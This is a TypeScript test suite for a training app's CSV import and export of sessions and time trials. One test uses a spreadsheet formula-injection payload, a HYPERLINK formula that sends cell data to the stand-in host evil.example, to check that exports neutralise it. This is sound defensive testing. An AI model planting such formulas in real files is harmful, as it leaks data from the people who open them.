import { eq, sql } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import type { Database } from "@/db/client";
import { progressMetrics, trainingSessions, users } from "@/db/schema";
import { cached, cacheKeys } from "@/lib/cache";
import { dayLabel, todayIn } from "@/lib/core/dates";
import { getDb } from "@/lib/database";
import { testAccount } from "@/scripts/test/accounts";
import { callRoute } from "@/scripts/test/api";
import * as exporter from "../export/[kind]/route";
import * as track from "../progress/track/route";
import * as sessionsRoute from "../sessions/route";
import * as preview from "./[kind]/preview/route";
import * as commit from "./[kind]/route";

let db: Database;
beforeAll(async () => {
  db = await getDb();
});

const SESSIONS = [
  "date,type,duration_min,rpe,mood,notes",
  '2026-11-02,acceleration,60,7,4,"Block starts, 6×20 m"',
  "2026-11-04,tempo,45,5,,",
  "2026-11-05,jogging,45,5,3,",
  "2026-11-06,max_velocity,50,11,3,",
].join("\n");

const count = async (userId: string) =>
  (
    await db.select({ n: sql<number>`count(*)::int` }).from(trainingSessions).where(eq(trainingSessions.userId, userId))
  )[0]!.n;

describe("CSV import", () => {
  it("previews a file row by row, naming why each bad row is bad, and stores nothing", async () => {
    const athlete = await testAccount(db, "athlete");
    const response = await callRoute(preview, "POST", {
      token: athlete.token,
      params: { kind: "sessions" },
      body: { csv: SESSIONS },
    });
    expect(response.status).toBe(200);
    const body = await response.json();
    expect(body).toMatchObject({ valid: 2, invalid: 2 });
    expect(body.rows.map((r: { line: number; valid: boolean }) => [r.line, r.valid])).toEqual([
      [2, true],
      [3, true],
      [4, false],
      [5, false],
    ]);
    expect(Object.keys(body.rows[2].errors)).toEqual(["type"]);
    expect(body.rows[3].errors).toEqual({ rpe: expect.stringContaining("1 to 10") });
    expect(await count(athlete.id)).toBe(0);
  });

  it("refuses a file with a bad row whole, and names each problem by line", async () => {
    const athlete = await testAccount(db, "athlete");
    const response = await callRoute(commit, "POST", {
      token: athlete.token,
      params: { kind: "sessions" },
      body: { csv: SESSIONS },
    });
    expect(response.status).toBe(400);
    const { error } = await response.json();
    expect(error.message).toContain("nothing was imported");
    expect(Object.keys(error.fields).sort()).toEqual(["line 4.type", "line 5.rpe"]);
    expect(await count(athlete.id)).toBe(0);
  });

  it("imports a valid file in one go and exports it back in the same columns", async () => {
    const athlete = await testAccount(db, "athlete");
    const valid = SESSIONS.split("\n").slice(0, 3).join("\n");
    const response = await callRoute(commit, "POST", {
      token: athlete.token,
      params: { kind: "sessions" },
      body: { csv: valid },
    });
    expect(response.status).toBe(201);
    expect(await response.json()).toEqual({ imported: 2 });
    const exported = await callRoute(exporter, "GET", { token: athlete.token, params: { kind: "sessions" } });
    expect(exported.headers.get("content-type")).toContain("text/csv");
    expect(exported.headers.get("content-disposition")).toContain("attachment");
    expect((await exported.text()).trim().split(/\r\n/)).toEqual([
      "date,type,duration_min,rpe,mood,notes",
      '2026-11-02,acceleration,60,7,4,"Block starts, 6×20 m"',
      "2026-11-04,tempo,45,5,,",
    ]);
  });

  it("imports time trials with hand timing and wind", async () => {
    const athlete = await testAccount(db, "athlete");
    const csv = "date,metric,value,timing,wind_mps\n2026-10-01,100m,11.2,hand,1.5\n2026-10-15,200m,23.41,fat,-0.4\n";
    const response = await callRoute(commit, "POST", {
      token: athlete.token,
      params: { kind: "time-trials" },
      body: { csv },
    });
    expect(response.status).toBe(201);
    const rows = await db.select().from(progressMetrics).where(eq(progressMetrics.userId, athlete.id));
    expect(rows.map((r) => [r.metric, r.value, r.timing, r.windMps, r.unit]).sort()).toEqual([
      ["100m", 11.2, "hand", 1.5, "s"],
      ["200m", 23.41, "fat", -0.4, "s"],
    ]);
  });

  it.each([
    ["a missing column", "date,type,rpe\n2026-11-02,tempo,5", "missing the column duration_min"],
    ["an unknown column", "date,type,duration_min,rpe,shoe\n2026-11-02,tempo,40,5,spikes", "shoe"],
    ["an empty file", "", "is empty"],
    ["a header alone", "date,type,duration_min,rpe\n", "no rows"],
  ])("refuses %s with a 400 on csv", async (_label, csv, message) => {
    const athlete = await testAccount(db, "athlete");
    const response = await callRoute(preview, "POST", {
      token: athlete.token,
      params: { kind: "sessions" },
      body: { csv },
    });
    expect(response.status).toBe(400);
    expect((await response.json()).error.fields.csv).toContain(message);
  });

  it("answers 404 for a kind it does not know", async () => {
    const athlete = await testAccount(db, "athlete");
    const response = await callRoute(preview, "POST", {
      token: athlete.token,
      params: { kind: "meals" },
      body: { csv: "a\n1" },
    });
    expect(response.status).toBe(404);
  });
});

describe("CSV import through the single create's write path", () => {
  type Account = Awaited<ReturnType<typeof testAccount>>;
  // UTC−11 and UTC+14: whatever the hour, Kiritimati's date is a day or more ahead of Pago Pago's.
  const BEHIND = "Pacific/Pago_Pago";
  const AHEAD = "Pacific/Kiritimati";
  const today = todayIn("UTC");

  const previewOf = async (account: Account, kind: string, csv: string) => {
    const response = await callRoute(preview, "POST", { token: account.token, params: { kind }, body: { csv } });
    expect(response.status).toBe(200);
    return (await response.json()) as {
      rows: { line: number; valid: boolean; errors: Record<string, string> }[];
      valid: number;
      invalid: number;
    };
  };
  const refusedFields = async (account: Account, kind: string, csv: string) => {
    const response = await callRoute(commit, "POST", { token: account.token, params: { kind }, body: { csv } });
    expect(response.status).toBe(400);
    const { error } = await response.json();
    expect(error.code).toBe("validation_error");
    expect(error.message).toContain("nothing was imported");
    return error.fields as Record<string, string>;
  };
  const marksOf = async (userId: string) => db.select().from(progressMetrics).where(eq(progressMetrics.userId, userId));
  /** A stored row without what differs between two writes of the same data: its id, owner and timestamps. */
  const content = (row: Record<string, unknown>) => {
    const { id: _id, userId: _userId, createdAt: _createdAt, updatedAt: _updatedAt, ...kept } = row;
    return kept;
  };

  it("refuses a time trial dated after today in the athlete's zone, naming the line, as the single create does", async () => {
    const athlete = await testAccount(db, "athlete");
    await db.update(users).set({ timezone: BEHIND }).where(eq(users.id, athlete.id));
    const message = `must not be in the future (today is ${dayLabel(todayIn(BEHIND))})`;
    const csv = `date,metric,value\n${todayIn(BEHIND)},100m,11.3\n${todayIn(AHEAD)},100m,11.1\n`;

    const checked = await previewOf(athlete, "time-trials", csv);
    expect(checked).toMatchObject({ valid: 1, invalid: 1 });
    expect(checked.rows.map((r) => [r.line, r.valid, r.errors])).toEqual([
      [2, true, {}],
      [3, false, { date: message }],
    ]);
    expect(await refusedFields(athlete, "time-trials", csv)).toEqual({ "line 3.date": message });

    const single = await callRoute(track, "POST", {
      token: athlete.token,
      body: { metric: "100m", value: 11.1, date: todayIn(AHEAD) },
    });
    expect(single.status).toBe(400);
    expect((await single.json()).error.fields).toEqual({ date: message });
    expect(await marksOf(athlete.id)).toEqual([]);
  });

  it("refuses a unit the metric does not take, naming the line: a race in metres, a unit apart from the one in use", async () => {
    const athlete = await testAccount(db, "athlete");
    const earlier = await callRoute(track, "POST", {
      token: athlete.token,
      body: { metric: "long_jump", value: 6.1, unit: "m", date: today },
    });
    expect(earlier.status).toBe(201);
    const csv = [
      "date,metric,value,unit",
      `${today},100m,11.2,m`,
      `${today},long_jump,612,cm`,
      `${today},vertical_jump,62,cm`,
      `${today},vertical_jump,0.63,m`,
      `${today},squat_1rm,150,`,
    ].join("\n");
    const fields = {
      "line 2.unit": "must be s: a race distance is timed in seconds",
      "line 3.unit": "must be m, the unit of your earlier long_jump marks",
      "line 5.unit": "must be cm, the unit of your earlier vertical_jump marks",
      "line 6.unit": expect.stringContaining("is required when the metric is not a race distance"),
    };

    const checked = await previewOf(athlete, "time-trials", csv);
    expect(checked.rows.map((r) => [r.line, r.valid])).toEqual([
      [2, false],
      [3, false],
      [4, true],
      [5, false],
      [6, false],
    ]);
    expect(await refusedFields(athlete, "time-trials", csv)).toEqual(fields);
    expect(await marksOf(athlete.id)).toHaveLength(1);

    const single = await callRoute(track, "POST", {
      token: athlete.token,
      body: { metric: "long_jump", value: 612, unit: "cm", date: today },
    });
    expect((await single.json()).error.fields).toEqual({ unit: fields["line 3.unit"] });
  });

  it("refuses malformed reps, naming the line and the set, with the single create's own message", async () => {
    const athlete = await testAccount(db, "athlete");
    const cells: [string, unknown][] = [
      ["6x30m", "6x30m"],
      ['[{"reps":2}', '[{"reps":2}'],
      ['[{"reps":0}]', [{ reps: 0 }]],
      ['[{"distance_m":30}]', [{ distance_m: 30 }]],
      ['[{"reps":2,"times_s":[3,3,3]}]', [{ reps: 2, times_s: [3, 3, 3] }]],
      ['[{"reps":2},{"reps":2,"rest_s":-1}]', [{ reps: 2 }, { reps: 2, rest_s: -1 }]],
    ];
    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
    const csv = [
      "date,type,duration_min,rpe,reps",
      `2026-11-02,max_velocity,50,7,${quoted('[{"reps":3,"distance_m":30}]')}`,
      ...cells.map(([cell]) => `2026-11-03,max_velocity,50,7,${quoted(cell)}`),
    ].join("\n");

    const expected: Record<string, string> = {};
    for (const [index, [, reps]] of cells.entries()) {
      const single = await callRoute(sessionsRoute, "POST", {
        token: athlete.token,
        body: { date: "2026-11-03", type: "max_velocity", duration_min: 50, rpe: 7, reps },
      });
      expect(single.status).toBe(400);
      const singleFields: Record<string, string> = (await single.json()).error.fields;
      expect(Object.keys(singleFields).every((field) => field.startsWith("reps"))).toBe(true);
      for (const [field, message] of Object.entries(singleFields)) expected[`line ${index + 3}.${field}`] = message;
    }
    expect(expected).toMatchObject({
      "line 3.reps": "must be a list of sets",
      "line 4.reps": "must be a list of sets",
      "line 5.reps.0.reps": "must be an integer from 1 to 100",
      "line 6.reps.0.reps": "is required",
      "line 7.reps.0.times_s": "must not list more times than reps",
      "line 8.reps.1.rest_s": "must be a number from 0 to 3600",
    });

    const checked = await previewOf(athlete, "sessions", csv);
    expect(checked).toMatchObject({ valid: 1, invalid: cells.length });
    expect(await refusedFields(athlete, "sessions", csv)).toEqual(expected);
    expect(await count(athlete.id)).toBe(0);
  });

  it("stores the same rows as the single create of the same data", async () => {
    const [imported, created] = await Promise.all([testAccount(db, "athlete"), testAccount(db, "athlete")]);
    const session = {
      date: "2026-11-10",
      type: "max_velocity",
      duration_min: 70,
      rpe: 8,
      mood: 4,
      notes: "Flys, tail wind",
      reps: [{ reps: 3, distance_m: 30, times_s: [2.95, 2.91], rest_s: 240, note: "" }, { reps: 2 }],
    };
    const sessionCsv = [
      "date,type,duration_min,rpe,mood,notes,reps",
      `2026-11-10,max_velocity,70,8,4," Flys, tail wind ","${JSON.stringify(session.reps).replaceAll('"', '""')}"`,
    ].join("\n");
    const marks = [
      { date: today, metric: "100m", value: 10.4, timing: "hand", wind_mps: 1.5, notes: "Club night" },
      { date: today, metric: "standing_long_jump", value: 2.9, unit: "m" },
    ];
    const markCsv = [
      "date,metric,value,unit,timing,wind_mps,notes",
      `${today},100m,10.4,,hand,1.5,Club night`,
      `${today},standing_long_jump,2.9,m,,,`,
    ].join("\n");

    for (const [kind, csv] of [
      ["sessions", sessionCsv],
      ["time-trials", markCsv],
    ] as const) {
      const response = await callRoute(commit, "POST", { token: imported.token, params: { kind }, body: { csv } });
      expect(response.status, await response.clone().text()).toBe(201);
    }
    expect((await callRoute(sessionsRoute, "POST", { token: created.token, body: session })).status).toBe(201);
    for (const body of marks) expect((await callRoute(track, "POST", { token: created.token, body })).status).toBe(201);

    const sessionsOf = (userId: string) =>
      db.select().from(trainingSessions).where(eq(trainingSessions.userId, userId));
    const [importedSession] = await sessionsOf(imported.id);
    expect(importedSession?.reps).toEqual([{ reps: 3, distanceM: 30, timesS: [2.95, 2.91], restS: 240 }, { reps: 2 }]);
    expect((await sessionsOf(imported.id)).map(content)).toEqual((await sessionsOf(created.id)).map(content));
    const byMetric = (a: { metric: string }, b: { metric: string }) => a.metric.localeCompare(b.metric);
    expect((await marksOf(imported.id)).sort(byMetric).map(content)).toEqual(
      (await marksOf(created.id)).sort(byMetric).map(content),
    );
  });

  it("clears the athlete's cached analytics and drills, as the single create does", async () => {
    const athlete = await testAccount(db, "athlete");
    const keys = [cacheKeys.recommendedDrills(athlete.id, 10), cacheKeys.progressAnalytics(athlete.id, "all", 365)];
    const read = () => Promise.all(keys.map((key) => cached(key, 600, async () => "fresh")));
    for (const key of keys) await cached(key, 600, async () => "stale");
    const sessions = "date,type,duration_min,rpe\n2026-11-20,tempo,40,5\n";
    await callRoute(commit, "POST", { token: athlete.token, params: { kind: "sessions" }, body: { csv: sessions } });
    expect(await read()).toEqual(["fresh", "fresh"]);

    await cached(keys[1]!, 600, async () => "stale");
    const marks = `date,metric,value\n${today},60m,7.1\n`;
    await callRoute(commit, "POST", { token: athlete.token, params: { kind: "time-trials" }, body: { csv: marks } });
    expect(await cached(keys[1]!, 600, async () => "fresh")).toBe("fresh");
  });

  it("exports rep detail as JSON in a reps column, which imports back as it was", async () => {
    const [athlete, other] = await Promise.all([testAccount(db, "athlete"), testAccount(db, "athlete")]);
    const reps = [{ reps: 4, distance_m: 20, times_s: [3.1, 3.05], note: "blocks" }];
    for (const body of [
      { date: "2026-11-01", type: "tempo", duration_min: 40, rpe: 4 },
      { date: "2026-11-02", type: "acceleration", duration_min: 60, rpe: 7, reps },
    ]) {
      expect((await callRoute(sessionsRoute, "POST", { token: athlete.token, body })).status).toBe(201);
    }
    const exported = await (
      await callRoute(exporter, "GET", { token: athlete.token, params: { kind: "sessions" } })
    ).text();
    expect(exported.split(/\r\n/)[0]).toBe("date,type,duration_min,rpe,mood,notes,reps");
    const response = await callRoute(commit, "POST", {
      token: other.token,
      params: { kind: "sessions" },
      body: { csv: exported },
    });
    expect(response.status).toBe(201);
    const stored = await db.select().from(trainingSessions).where(eq(trainingSessions.userId, other.id));
    expect(stored.map((s) => [s.date, s.reps]).sort()).toEqual([
      ["2026-11-01", null],
      ["2026-11-02", [{ reps: 4, distanceM: 20, timesS: [3.1, 3.05], note: "blocks" }]],
    ]);
  });
});

describe("CSV import: rows, lines and formula cells", () => {
  type Account = Awaited<ReturnType<typeof testAccount>>;
  const previewOf = async (account: Account, kind: string, csv: string) => {
    const response = await callRoute(preview, "POST", { token: account.token, params: { kind }, body: { csv } });
    expect(response.status).toBe(200);
    return (await response.json()) as { rows: { line: number; valid: boolean; errors: Record<string, string> }[] };
  };
  const commitOf = (account: Account, kind: string, csv: string) =>
    callRoute(commit, "POST", { token: account.token, params: { kind }, body: { csv } });
  const OVERFLOW = "has 6 cells but the header names 5 columns: put a cell that holds a comma in double quotes";

  it("refuses a row with more cells than the header, naming its line, instead of cutting the note", async () => {
    const athlete = await testAccount(db, "athlete");
    const csv = [
      "date,type,duration_min,rpe,notes",
      "2026-11-02,tempo,40,5,Easy",
      "2026-11-03,tempo,40,5,Block starts, 6×20 m",
      "2026-11-04,tempo,40,5,Quoted,",
      '2026-11-05,tempo,40,5,"Block starts, 6×20 m"',
    ].join("\n");
    const checked = await previewOf(athlete, "sessions", csv);
    expect(checked.rows.map((r) => [r.line, r.valid, r.errors])).toEqual([
      [2, true, {}],
      [3, false, { row: OVERFLOW }],
      // A trailing empty cell carries nothing to lose.
      [4, true, {}],
      [5, true, {}],
    ]);
    const response = await commitOf(athlete, "sessions", csv);
    expect(response.status).toBe(400);
    expect((await response.json()).error.fields).toEqual({ "line 3.row": OVERFLOW });
    expect(await count(athlete.id)).toBe(0);
  });

  it("names the line a bad row starts on, after blank lines and notes that run over several lines", async () => {
    const athlete = await testAccount(db, "athlete");
    const csv = [
      "date,type,duration_min,rpe,notes",
      "",
      '2026-11-02,tempo,40,5,"Warm-up',
      "4×30 m",
      'cool-down"',
      "",
      "2026-11-03,tempo,40,11,",
    ].join("\r\n");
    const checked = await previewOf(athlete, "sessions", csv);
    expect(checked.rows.map((r) => [r.line, r.valid])).toEqual([
      [3, true],
      [7, false],
    ]);
    const response = await commitOf(athlete, "sessions", csv);
    expect(Object.keys((await response.json()).error.fields)).toEqual(["line 7.rpe"]);
  });

  it("refuses a control character in a cell, naming the line and the column", async () => {
    const athlete = await testAccount(db, "athlete");
    const csv = "date,type,duration_min,rpe,notes\n2026-11-02,tempo,40,5,ok\n2026-11-03,tempo,40,5,a\u001bb\n";
    const response = await commitOf(athlete, "sessions", csv);
    expect(response.status).toBe(400);
    expect((await response.json()).error.fields).toEqual({ "line 3.notes": "must not contain control characters" });
    expect(await count(athlete.id)).toBe(0);
  });

  it("says a file with NUL bytes is not UTF-8 text, rather than naming missing columns", async () => {
    const athlete = await testAccount(db, "athlete");
    const utf16 = [..."date,type,duration_min,rpe\n2026-11-02,tempo,40,5\n"].join("\u0000");
    const response = await callRoute(preview, "POST", {
      token: athlete.token,
      params: { kind: "sessions" },
      body: { csv: utf16 },
    });
    expect(response.status).toBe(400);
    expect((await response.json()).error.fields).toEqual({ csv: "must be text saved as UTF-8: it holds NUL bytes" });
  });

  it("exports text that would run as a formula behind an apostrophe, keeps numbers, and imports back the same values", async () => {
    const [athlete, other] = await Promise.all([testAccount(db, "athlete"), testAccount(db, "athlete")]);
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
    for (const body of [
      { metric: "100m", value: 11.42, wind_mps: -0.5, date: "2026-10-15", notes: formula },
      { metric: "200m", value: 23.1, wind_mps: 1.2, date: "2026-10-16", notes: "-0.5 headwind, @home, +1 rep" },
    ]) {
      expect((await callRoute(track, "POST", { token: athlete.token, body })).status).toBe(201);
    }
    const exported = await (
      await callRoute(exporter, "GET", { token: athlete.token, params: { kind: "time-trials" } })
    ).text();
    const lines = exported.trim().split(/\r\n/);
    expect(lines).toEqual([
      "date,metric,value,unit,timing,wind_mps,notes",
      `2026-10-15,100m,11.42,s,,-0.5,"'${formula.replaceAll('"', '""')}"`,
      `2026-10-16,200m,23.1,s,,1.2,"'-0.5 headwind, @home, +1 rep"`,
    ]);

    const response = await commitOf(other, "time-trials", exported);
    expect(response.status, await response.clone().text()).toBe(201);
    const marks = async (userId: string) =>
      (await db.select().from(progressMetrics).where(eq(progressMetrics.userId, userId)))
        .map((m) => [m.date, m.metric, m.value, m.windMps, m.notes])
        .sort();
    expect(await marks(other.id)).toEqual(await marks(athlete.id));
    expect((await marks(other.id))[0]).toEqual(["2026-10-15", "100m", 11.42, -0.5, formula]);
  });
});
